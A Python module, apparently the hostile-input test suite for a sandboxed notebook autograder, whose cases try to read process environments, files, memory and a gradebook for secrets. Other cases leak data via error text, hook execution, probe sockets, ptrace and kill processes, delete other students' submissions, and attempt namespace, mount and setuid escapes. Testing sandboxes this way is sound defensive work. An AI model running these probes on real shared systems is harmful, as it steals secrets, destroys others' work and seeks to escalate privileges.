"""Attempts to read secrets, and to reach other people's data."""

from hostile.making import FIRST, Attack, in_answers, own_cell

LEAKS = (
    Attack(
        "environment",
        "Prints the environment variables of its own process, including AUTOGRADER_SEED, and of every other process.",
        own_cell("""
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/[0-9]*/mountinfo"):
    try:
        print(path, open(path, errors="replace").read()[:5000])
    except OSError as error:
        print(error)
"""),
    ),
    Attack(
        "searches-files",
        "Searches every readable file for secrets, also through /proc/1/root and in the grader's folders.",
        own_cell("""
import glob, importlib.util, os, site, sqlite3
def show(path):
    try:
        print(path, open(path).read()[:3000])
    except OSError as error:
        print(error)
for folder in site.getsitepackages():
    for path in glob.glob(folder + "/*.pth") + glob.glob(folder + "/__editable__*"):
        show(path)
for name in ("autograder", "solutions", "autograder.checks.attention.exercises"):
    try:
        print(importlib.util.find_spec(name))
    except ImportError as error:
        print(error)
for path in ("solutions/attention.py", "autograder/checks/attention/exercises.py"):
    show(f"{REPOSITORY}/{path}")
for path in (COURSE + "/gradebook.db", "file:" + COURSE + "/gradebook.db?mode=ro&immutable=1"):
    try:
        connection = sqlite3.connect(path, uri=path.startswith("file:"), timeout=1)
        print(connection.execute("select * from student").fetchall(), connection.execute("select source from source_cell").fetchall())
    except sqlite3.Error as error:
        print(error)
tops = ["/", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", COURSE, REPOSITORY, os.path.expanduser("~root"), "/home"]
for top in tops:
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("usr", "proc", "sys", "site-packages", "lib", "include", "share")]
        for name in files:
            path = os.path.join(folder, name)
            if not os.path.isfile(path) or not os.access(path, os.R_OK):
                continue
            text = open(path, errors="replace").read(100_000)
            if "canary-" in text or "oracle" in text:
                print(folder, name, text[:2000])
"""),
    ),
    Attack(
        "searches-memory",
        "Searches all objects and all memory of its process for secrets.",
        own_cell(
            "seen = []",
            later="""
import gc, re
for item in gc.get_objects():
    try:
        text = repr(item)[:10_000] if type(item) in (dict, list, tuple, str) else ""
    except Exception:
        continue
    if "canary-" in text or "HIDDEN TESTS" in text:
        print(text[:300])
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        if " rw-p " in line and end - start < 2**26:
            try:
                memory.seek(start)
                print(*re.findall(rb"canary-[0-9a-f]{8,}|HIDDEN TESTS.{80}", memory.read(end - start)))
            except (OSError, ValueError, OverflowError):
                pass
""",
        ),
    ),
    Attack(
        "hooks",
        "Records every cell, message, call, event and audit event, and prints what it has recorded.",
        own_cell(
            """
import sys, threading
seen, called = [], []
def profile(frame, event, argument):
    if len(called) < 20_000 and event in ("call", "return"):
        called.append((frame.f_code.co_name, str(argument)[:200]))
sys.setprofile(profile)
threading.setprofile(profile)
get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
get_ipython().input_transformers_cleanup.append(lambda lines: seen.extend(lines) or lines)
import inside
receive = inside._receive
def note():
    seen.append(receive())
    return seen[-1]
inside._receive = note
sys.addaudithook(lambda event, args: seen.append(str(args)) if event in ("exec", "compile", "open") and len(seen) < 9999 else None)
""",
            later="import sys\nsys.setprofile(None)\nprint(len(seen), [text for text in map(repr, seen + called) "
            "if 'canary-' in text or 'HIDDEN' in text or 'check(' in text])\nprint(In)\nprint([key for key in globals()])",
        ),
    ),
    Attack(
        "error-as-channel",
        "Puts everything that it sees into the text of an error, which the feedback shows.",
        in_answers(
            """
import sys
frame, text = sys._getframe(), ""
while frame is not None:
    text += str({name: str(value)[:300] for name, value in frame.f_locals.items()})
    frame = frame.f_back
raise RuntimeError(text[:100_000])
""",
            "attention",
        ),
        "attention",
        on=FIRST,
    ),
    Attack(
        "sockets",
        "Connects to a service on this machine, over IP and over Unix sockets.",
        own_cell(r"""
import glob, socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT)), (socket.AF_UNIX, f"\0autograder-{PORT}"),
    *((socket.AF_UNIX, path) for path in [COURSE + "/canary.socket", *glob.glob("/run/**/*.sock*", recursive=True)]),
):
    try:
        with socket.socket(family) as connection:
            connection.settimeout(1)
            connection.connect(address)
            print("connected", connection.recv(1000))
    except OSError as error:
        print(error)
"""),
    ),
    Attack(
        "other-processes",
        "Reads, traces and signals the processes around it.",
        own_cell("""
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
for process in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    for file in ("environ", "maps", "mem", "fd", "root", "cwd", "exe"):
        path = f"/proc/{process}/{file}"
        try:
            print(path, os.listdir(path) if file in ("fd", "root", "cwd") else open(path, "rb").read(200))
        except (OSError, ValueError) as error:
            print(error)
    print("ptrace", libc.ptrace(16, int(process), 0, 0), ctypes.get_errno())
for process in (1, os.getppid()):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(process, number)
        except OSError as error:
            print(error)
"""),
    ),
    Attack(
        "deletes-submissions",
        "Deletes and overwrites the submissions of other students.",
        own_cell("""
import os, shutil
for place in (COURSE + "/submitted", "../../../b-good", "/proc/1/root" + COURSE + "/submitted"):
    try:
        shutil.rmtree(place)
        print("deleted", place)
    except OSError as error:
        print(error)
"""),
    ),
    Attack(
        "escapes",
        "Tries to make namespaces, mounts, devices and set-user-id files, and to gain privileges.",
        own_cell("""
import ctypes, os, stat, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10020000, 0x00020000, 0x40000000):
    print("unshare", libc.unshare(flags), ctypes.get_errno())
for target in (b"/tmp/home", b"/proc", b"/"):
    print("mount", libc.mount(b"none", target, b"tmpfs", 0, None), ctypes.get_errno())
for name, make in {
    "device": lambda: os.mknod("/tmp/disk", stat.S_IFBLK | 0o666, os.makedev(254, 0)),
    "root": lambda: os.setuid(0),
    "group": lambda: os.setgroups([0]),
    "chroot": lambda: os.chroot("/tmp"),
    "nice": lambda: os.nice(-10),
    "pivot": lambda: os.symlink("/etc/shadow", "/tmp/home/link"),
}.items():
    try:
        print(name, make())
    except OSError as error:
        print(name, error)
print(subprocess.run("su -c id; sudo -n id; unshare -Ur id", shell=True, capture_output=True, text=True))
"""),
    ),
)
